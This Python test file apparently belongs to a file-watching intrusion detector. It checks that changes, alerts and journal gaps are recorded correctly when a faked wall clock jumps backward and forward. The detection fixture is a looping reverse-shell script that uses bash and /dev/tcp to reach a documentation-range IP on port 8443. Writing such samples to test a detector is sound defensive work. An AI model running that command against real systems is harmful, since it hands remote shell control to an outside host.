"""The wall clock is set while the watcher runs: nothing is lost, nothing ends before it began, rates go on."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

from hinomi.store.case import Case

CLOCK = '''
"""A wall clock of the watcher's own, in all its processes: as far from the real one as a file says."""
import datetime, os, time

_real, _place = time.time, os.environ["TEST_WALL_CLOCK"]


def _wall():
    with open(_place, encoding="ascii") as file:
        return _real() + float(file.read())


class _Datetime(datetime.datetime):
    @classmethod
    def now(cls, tz=None):
        return cls.fromtimestamp(_wall(), tz)


time.time, time.time_ns = _wall, lambda: int(_wall() * 1e9)
datetime.datetime = _Datetime
'''
DROPPED = "#!/bin/sh\nwhile :; do\n  bash -i >& /dev/tcp/203.0.113.{number}/8443 0>&1\n  sleep 60\ndone\n"
HOUR = 3600.0


def test_the_wall_clock_goes_back_and_forward(place: Path, watching: Callable[..., Any], tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text(CLOCK)
    clock = tmp_path / "clock"

    def set_to(hours: float) -> None:
        clock.with_suffix(".new").write_text(str(hours * HOUR), "ascii")
        clock.with_suffix(".new").replace(clock)

    set_to(0)
    within = ("env", f"PYTHONPATH={tmp_path}", f"TEST_WALL_CLOCK={clock}")
    alerts = tmp_path / "alerts.jsonl"
    watch = watching("--no-processes", "--alert", f"file={alerts}", within=within).ready()
    for number, hours in enumerate((0, -30, 50), 1):
        set_to(hours)
        script = place / f"script{number}"
        script.write_text(DROPPED.format(number=number))
        change = watch.change(script.name, "added")
        assert abs(change["at"] - (time.time() + hours * HOUR)) < HOUR, "told by the clock as it is set"
        assert change["pid"] == os.getpid() and change["found_by"] == "event"
        assert watch.finding("reverse-shell-script", str(script))["new"]
    watch.until(lambda: alerts.exists() and alerts.read_text().count('"reverse-shell-script"') >= 3, "three alerts")
    watch.process.kill()
    watch.process.wait()

    set_to(-100)  # before anything that it remembers
    (place / "meanwhile").write_text("unseen")
    again = watching("--no-processes", within=within).ready()
    assert again.change("meanwhile", "added")["found_by"] == "reconcile"
    (place / "after").write_text("seen")
    assert again.change("after", "added")["found_by"] == "event"
    again.stop()
    with Case.open(again.case) as case:
        gaps = case.gaps.listed()
        assert [gap.reason for gap in gaps].count("watcher-stopped") == 1
        assert all(gap.until and gap.since <= gap.until and gap.reconciled_at for gap in gaps)
        steps = [e for e in case.journal.entries() if e.event == "clock-stepped"]
        assert len(steps) >= 2 and case.journal.broken_at() is None
        assert all(datetime.fromisoformat(run.started) for run in case.runs())
